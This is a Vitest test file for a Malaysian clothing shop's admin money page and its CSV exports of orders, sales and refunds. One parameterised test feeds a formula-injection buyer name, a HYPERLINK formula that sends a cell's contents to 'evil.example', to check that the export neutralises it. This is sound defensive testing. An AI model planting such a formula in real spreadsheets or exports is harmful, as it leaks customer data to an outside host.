import { setImmediate } from 'node:timers/promises'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { OrderId } from '#store/ids.ts'
import type { OrderTable } from '#store/orders/order-table.ts'
import type { RefundTable } from '#store/orders/refund-table.ts'
import { erasePerson } from '#store/privacy/erase-person.server.ts'
import { listOrderBatches, listRefundedOrderBatches } from '#store/sales/export-queries.server.ts'
import { findRevenue } from '#store/sales/revenue-queries.server.ts'
import { listSoldElsewhereBatches } from '#store/sales/sold-elsewhere-queries.server.ts'
import { getTimeRange } from '#store/sales/time-range.ts'
import { address, insertProduct } from '#test/factories.ts'
import { createHarness, type Harness } from '#test/harness.ts'
import { insertOrder, insertRefund as insertRefundRow, orderFixture, orderItemFixture } from '#test/order-factories.ts'
import { parseCsv } from '#test/parse-csv.ts'
import { type SignedInUser, signUp } from '#test/signed-in-user.ts'
import { isFullSize } from '#test/test-size.ts'
import { waitFor } from '#test/wait-for.ts'

// The harness sets the clock to 20 November 2026, noon in Malaysia.
let harness: Harness
let admin: SignedInUser
beforeEach(async () => {
  harness = await createHarness({ hasPages: true })
  admin = await signUp(harness, 'boss@example.com', { isAdmin: true })
})
afterEach(() => harness.close())

const paid = { paid: 1, status: 'paid', paymentStatus: 'paid' } as const

const insertRefund = (orderId: OrderId, refund: Partial<RefundTable>) =>
  insertRefundRow(harness.db, orderId, {
    paymentIntentId: `pi_${orderId}`,
    amountSen: 1050,
    succeededAt: null,
    ...refund,
  })

/** Downloads a file and reads it as records by its head. */
async function download(path: string) {
  const response = await admin.request(`/admin/money/${path}`)
  const bytes = new Uint8Array(await response.arrayBuffer())
  const [head = [], ...rows] = parseCsv(new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes))
  return {
    response,
    head,
    records: rows.map(row => Object.fromEntries(head.map((name, index) => [name, row[index] ?? '']))),
  }
}

describe('the money page', () => {
  test('shows what a purchase brought in and what went back of it', async () => {
    const { order } = await harness.shopper().buy([await insertProduct(harness.db, { category: 'Kebaya' })])
    const findOrder = () =>
      harness.db.selectFrom('orders').selectAll().where('id', '=', order.id).executeTakeFirstOrThrow()
    await waitFor(async () => expect((await findOrder()).paid).toBe(1))
    const { paymentIntentId } = await findOrder()
    await harness.stripe.refunds.create({ payment_intent: paymentIntentId ?? '', amount: 1050 })
    await waitFor(async () => expect((await findOrder()).refundedSen).toBe(1050))

    for (const path of ['/admin/money', '/admin/money?period=week', '/admin/money?month=2026-11']) {
      const { status, html } = await admin.getPage(path)
      expect(status).toBe(200)
      expect(html).toContain('What shop orders paid for goods and shipping, less refunds. Fees are not taken off.')
      for (const text of ['kebaya', '>44.50<', '>45.00<', '>10.00<', '>−10.50<', '1 order, 1 piece'])
        expect(html).toContain(text)
    }
    expect((await admin.getPage('/admin/money')).html).toContain('November 2026')
    expect((await admin.getPage('/admin/money?month=2026-10')).html).toContain('Nothing was paid or refunded')
    expect((await admin.getPage('/admin/orders')).html).toContain('Refunded')
  })

  test('takes an invalid month or period for all time', async () => {
    for (const query of ['month=2026-13', 'month=%27', 'period=decade', 'month=99999-01'])
      expect((await admin.getPage(`/admin/money?${query}`)).html).toContain('No order has been paid yet.')
  })
})

describe('the file of orders', () => {
  test('has a row per order with its amounts as numbers and its times in Malaysian time', async () => {
    const orderId = await insertOrder(harness.db, {
      ...paid,
      createdAt: '2026-11-01T15:30:00.000Z',
      paidAt: '2026-11-01T16:30:05.000Z',
      paymentMethod: 'fpx',
      paymentIntentId: 'pi_1',
      paymentStatus: 'partially_refunded',
      refundedSen: 1050,
      courier: 'jnt',
      trackingNumber: '612345678901',
    })
    await insertRefund(orderId, { paymentIntentId: 'pi_1', succeededAt: '2026-11-05T00:00:00.000Z' })
    const { response, records } = await download('orders.csv')
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="orders-all-to-2026-11-20.csv"',
      'cache-control': 'private, no-store',
    })
    expect(records).toEqual([
      {
        Order: expect.stringMatching(/^#[0-9A-Z]{8}$/),
        Placed: '2026-11-01 23:30:00',
        Paid: '2026-11-02 00:30:05',
        Status: 'paid',
        Payment: 'partially refunded',
        'Payment method': 'fpx',
        'Payment id': 'pi_1',
        Buyer: address.name,
        'E-mail': 'siti@example.com',
        Phone: "'+60123456789",
        Address: address.address,
        City: address.city,
        Postcode: address.zip,
        State: 'Sabah',
        Country: 'Malaysia',
        Pieces: '1',
        Titles: expect.stringMatching(/^Ordered shirt/),
        'Goods (MYR)': '45',
        'Shipping (MYR)': '10',
        'Total (MYR)': '55',
        'Received (MYR)': '55',
        'Refunded (MYR)': '10.5',
        'Net (MYR)': '44.5',
        Courier: 'J&T Express',
        'Tracking number': '612345678901',
        Row: 'order',
      },
    ])
  })

  test.each([
    ['=HYPERLINK("http://evil.example?"&A1,"Click")', '\'=HYPERLINK("http://evil.example?"&A1,"Click")'],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-1+1', "'-1+1"],
    ['Siti "Sis", Rahmah; KK', 'Siti "Sis", Rahmah; KK'],
    ['first\r\nsecond\nthird', 'first\r\nsecond\nthird'],
    ['ستي رحمه 👗', 'ستي رحمه 👗'],
  ])('carries the buyer %j unharmed and harmless', async (shipName, expected) => {
    await insertOrder(harness.db, { ...paid, shipName, shipAddress: shipName })
    const { records } = await download('orders.csv')
    expect(records).toMatchObject([{ Buyer: expected, Address: expected, 'Total (MYR)': '55' }])
  })

  test('keeps an erased person erased', async () => {
    await insertOrder(harness.db, { ...paid, status: 'delivered', paidAt: '2026-11-01T00:00:00.000Z' })
    const { uid } = admin
    await erasePerson(harness.store, { email: 'siti@example.com', by: { uid, email: 'boss@example.com' } })
    const { response, records } = await download('orders.csv')
    expect(response.status).toBe(200)
    expect(records).toMatchObject([
      {
        Buyer: 'Erased',
        'E-mail': '',
        Phone: '',
        Address: '',
        City: '',
        Postcode: '',
        State: 'Sabah',
        'Total (MYR)': '55',
      },
    ])
    expect((await download('sales.csv')).records).toMatchObject([{ Buyer: 'Erased' }])
  })

  test('has the orders of the chosen month: those paid in it, and those placed in it and never paid', async () => {
    const placedBefore = '2026-09-10T00:00:00.000Z'
    const september = await insertOrder(harness.db, { ...paid, createdAt: placedBefore, paidAt: placedBefore })
    const paidLater = await insertOrder(harness.db, {
      ...paid,
      createdAt: placedBefore,
      paidAt: '2026-09-30T16:00:00.000Z',
    })
    const unpaid = await insertOrder(harness.db, { createdAt: '2026-10-05T00:00:00.000Z' })
    const list = async (path: string) => (await download(path)).records.map(({ Order }) => Order)
    const numbers = (ids: string[]) => ids.map(id => `#${id.slice(-8).toUpperCase()}`)
    expect(await list('orders.csv?month=2026-09')).toEqual(numbers([september]))
    expect(await list('orders.csv?month=2026-10')).toEqual(numbers([paidLater, unpaid]))
    expect(await list('sales.csv?month=2026-10')).toEqual(numbers([paidLater]))
    expect(await list('orders.csv?period=week')).toEqual([])
  })
})

test('a download whose session has ended leads to the login page, as a page and not as a file', async () => {
  const { html } = await admin.getPage('/admin/money')
  for (const name of ['orders', 'sales', 'movements']) {
    const response = await harness.request(`/admin/money/${name}.csv`)
    expect([response.status, response.headers.get('location')]).toEqual([302, '/login'])
  }
  const [link = ''] = html.match(/<a\b[^>]*href="\/admin\/money\/orders\.csv"[^>]*>/) ?? []
  expect(link).not.toBe('')
  // With it, a browser would save the login page under the file's name.
  expect(link).not.toContain('download')
})

describe('the file of orders of a month', () => {
  const insertPaid = async (paidAt: string) => {
    const id = await insertOrder(harness.db, { ...paid, createdAt: paidAt, paidAt })
    await harness.db
      .updateTable('orders')
      .set({ paymentIntentId: `pi_${id}` })
      .where('id', '=', id)
      .execute()
    return id
  }
  const sum = (records: Record<string, string>[], name: string) =>
    records.reduce((total, record) => total + Math.round(Number(record[name]) * 100), 0)

  /** The file of orders, and the sums of the money page, of each month. */
  async function compare(month: string) {
    const { records } = await download(`orders.csv?month=${month}`)
    const { total } = await findRevenue(harness.db, getTimeRange({ period: 'all', month }, harness.store.now()))
    expect(sum(records, 'Received (MYR)')).toBe(total.goods + total.shipping)
    expect(sum(records, 'Refunded (MYR)')).toBe(total.refunds)
    expect(sum(records, 'Net (MYR)')).toBe(total.net)
    expect(sum((await download(`sales.csv?month=${month}`)).records, 'Amount (MYR)')).toBe(total.goods)
    return records
  }

  test('stays as it was when an order is refunded later, and agrees with the page', async () => {
    const id = await insertPaid('2026-09-10T00:00:00.000Z')
    await insertPaid('2026-10-10T00:00:00.000Z')
    const before = await compare('2026-09')
    await insertRefund(id, { succeededAt: '2026-10-11T00:00:00.000Z' })
    expect(await compare('2026-09')).toEqual(before)
    const [, refunded] = await compare('2026-10')
    expect(refunded).toMatchObject({
      Order: `#${id.slice(-8).toUpperCase()}`,
      Paid: '2026-09-10 08:00:00',
      Pieces: '',
      'Goods (MYR)': '',
      'Shipping (MYR)': '',
      'Total (MYR)': '',
      'Received (MYR)': '0',
      'Refunded (MYR)': '10.5',
      'Net (MYR)': '-10.5',
      Row: 'refund of an order of another time',
    })
  })

  test('has a refund that failed in another month as negative there', async () => {
    const id = await insertPaid('2026-09-10T00:00:00.000Z')
    await insertRefund(id, { succeededAt: '2026-09-11T00:00:00.000Z', failedAt: '2026-10-01T00:00:00.000Z' })
    await insertRefund(id, { succeededAt: '2026-10-11T00:00:00.000Z', failedAt: '2026-10-12T00:00:00.000Z' })
    expect(await compare('2026-09')).toMatchObject([{ 'Refunded (MYR)': '10.5' }])
    expect(await compare('2026-10')).toMatchObject([{ 'Refunded (MYR)': '-10.5', 'Net (MYR)': '10.5' }])
    expect(await compare('2026-11')).toEqual([])
    expect((await download('orders.csv')).records).toMatchObject([{ 'Refunded (MYR)': '0' }])
  })

  test('neither loses nor repeats refunds between batches', async () => {
    const ids: OrderId[] = []
    for (let index = 0; index < 5; index++) ids.push(await insertPaid('2026-09-10T00:00:00.000Z'))
    for (const id of ids) await insertRefund(id, { succeededAt: '2026-10-11T00:00:00.000Z' })
    const range = getTimeRange({ period: 'all', month: '2026-10' }, harness.store.now())
    const listed: string[] = []
    for await (const orders of listRefundedOrderBatches(harness.db, { range, batchSize: 2 }))
      listed.push(...orders.map(({ id }) => id))
    expect(listed).toEqual(ids.sort())
  })
})

test('the file of sales has a row per piece of a paid order', async () => {
  const productId = await insertProduct(harness.db, { category: ' Kebaya ' })
  const id = await insertOrder(harness.db, { ...paid, paidAt: '2026-11-01T16:30:05.000Z' })
  await harness.db
    .insertInto('orderItems')
    .values(orderItemFixture(id, { position: 1, productId, title: '=1+1', size: 'M', priceSen: 1205 }))
    .execute()
  await insertOrder(harness.db)
  const { records } = await download('sales.csv')
  expect(records).toMatchObject([
    { Category: '', 'Price (MYR)': '45' },
    {
      Order: `#${id.slice(-8).toUpperCase()}`,
      Paid: '2026-11-02 00:30:05',
      Title: "'=1+1",
      Category: 'kebaya',
      Size: 'M',
      Quantity: '1',
      'Price (MYR)': '12.05',
      'Amount (MYR)': '12.05',
      Buyer: address.name,
      State: 'Sabah',
      'Order status': 'paid',
      Payment: 'paid',
      'Product id': productId,
    },
  ])
})

describe('pieces that were sold elsewhere', () => {
  const atTheMarket = {
    sold: 1,
    soldChannel: 'market',
    soldPriceSen: 4000,
    soldAt: '2026-11-01T16:30:05.000Z',
  } as const

  test('are on the money page per month and channel, beside the net of the shop', async () => {
    await insertProduct(harness.db, atTheMarket)
    expect((await admin.getPage('/admin/money')).html).not.toContain('No order has been paid yet.')
    await insertOrder(harness.db, { ...paid, paidAt: '2026-10-02T00:00:00.000Z' })
    const { html } = await admin.getPage('/admin/money')
    for (const text of ['Per month and channel', 'Market stall', 'November 2026', '>40.00<', '>55.00<', '>95.00<'])
      expect(html).toContain(text)
    expect(html).toContain('Net, MYR<')
    expect(html).toContain('1 order, 1 piece')
    expect((await admin.getPage('/admin/money?month=2026-10')).html).not.toContain('Market stall')
  })

  test('follow the pieces of orders in the file of sales, with their channel', async () => {
    await insertOrder(harness.db, { ...paid, paidAt: '2026-11-03T00:00:00.000Z' })
    const productId = await insertProduct(harness.db, { ...atTheMarket, title: 'Market jacket' })
    await insertProduct(harness.db, { ...atTheMarket, soldAt: '2026-09-01T00:00:00.000Z' })
    await insertProduct(harness.db, { sold: 1, soldAt: '2026-11-02T00:00:00.000Z' })
    const { head, records } = await download('sales.csv?month=2026-11')
    expect(head.at(-1)).toBe('Channel')
    expect(records).toMatchObject([
      { Channel: 'Shop', Title: expect.stringMatching(/^Ordered shirt/) },
      {
        Order: '',
        Paid: '2026-11-02 00:30:05',
        Title: 'Market jacket',
        Category: 'top',
        Quantity: '1',
        'Price (MYR)': '40',
        'Amount (MYR)': '40',
        Buyer: '',
        State: '',
        'Order status': '',
        Payment: '',
        'Product id': productId,
        Channel: 'Market stall',
      },
    ])
  })

  test('are neither lost nor repeated between batches when they share a time', async () => {
    const ids: string[] = []
    for (let index = 0; index < 5; index++) ids.push(await insertProduct(harness.db, atTheMarket))
    const listed: string[] = []
    const range = { from: undefined, to: undefined }
    for await (const products of listSoldElsewhereBatches(harness.db, { range, batchSize: 2 }))
      listed.push(...products.map(({ id }) => id))
    expect(listed).toEqual(ids.sort())
  })
})

describe('many orders', () => {
  const count = isFullSize ? 10_000 : 2_000

  async function insertManyOrders() {
    // Several share a time, as batches must not lose or repeat them.
    const at = (index: number) => new Date(Date.UTC(2026, 0, 1) + Math.floor(index / 7) * 3_600_000).toISOString()
    const orders: OrderTable[] = Array.from({ length: count }, (_, index) =>
      orderFixture({ ...paid, createdAt: at(index), paidAt: at(index) }),
    )
    for (let start = 0; start < count; start += 500) {
      const rows = orders.slice(start, start + 500)
      await harness.db.insertInto('orders').values(rows).execute()
      await harness.db
        .insertInto('orderItems')
        .values(rows.map(({ id }) => orderItemFixture(id)))
        .execute()
    }
    return orders
  }

  test('are each in the file once, and other requests get their turn meanwhile', async () => {
    const orders = await insertManyOrders()
    let turns = 0
    let isDone = false
    const countTurns = async () => {
      while (!isDone) {
        await setImmediate()
        turns += 1
      }
    }
    const counting = countTurns()
    const { records } = await download('orders.csv')
    isDone = true
    await counting
    expect(records.map(({ Order }) => Order)).toEqual(orders.map(({ orderNumber }) => `#${orderNumber}`))
    expect(turns).toBeGreaterThan(count / 100)
  })

  test('are read no further when the download is cancelled', async () => {
    await insertManyOrders()
    const response = await admin.request('/admin/money/orders.csv')
    const reader = response.body?.getReader()
    for (let part = 0; part < 3; part++) await reader?.read()
    await reader?.cancel()
    const before = harness.queryCount()
    await setImmediate()
    expect(harness.queryCount() - before).toBeLessThanOrEqual(2)
  })
})

test('batches neither lose nor repeat an order whose time others share', async () => {
  const ids: string[] = []
  for (let index = 0; index < 7; index++)
    ids.push(await insertOrder(harness.db, { ...paid, paidAt: '2026-11-01T00:00:00.000Z' }))
  const range = { from: undefined, to: undefined }
  const listed: string[] = []
  for await (const orders of listOrderBatches(harness.db, { range, isPaidOnly: true, batchSize: 2 }))
    listed.push(...orders.map(({ id }) => id))
  expect(listed).toEqual(ids.sort())
})
